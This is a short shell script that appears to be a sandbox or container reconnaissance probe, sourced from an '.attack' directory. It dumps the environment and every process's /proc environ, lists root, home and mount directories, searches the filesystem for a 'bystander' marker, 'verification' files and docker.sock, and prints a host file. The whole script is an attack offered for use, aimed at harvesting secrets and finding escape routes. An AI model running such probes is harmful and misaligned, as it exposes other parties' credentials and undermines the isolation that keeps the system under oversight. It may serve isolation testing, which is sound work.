#!/bin/sh
. ./.attack/host
env
cat /proc/*/environ | tr '\0' '\n'
ls /work/.. /proc /root /home /mnt /media /state
ls -R / | grep -i -e "$BYSTANDER" -e verification -e docker.sock
grep -rs "$BYSTANDER" /run /tmp /home /var /etc /mnt
cat "$HOST_FILE"
exit 0
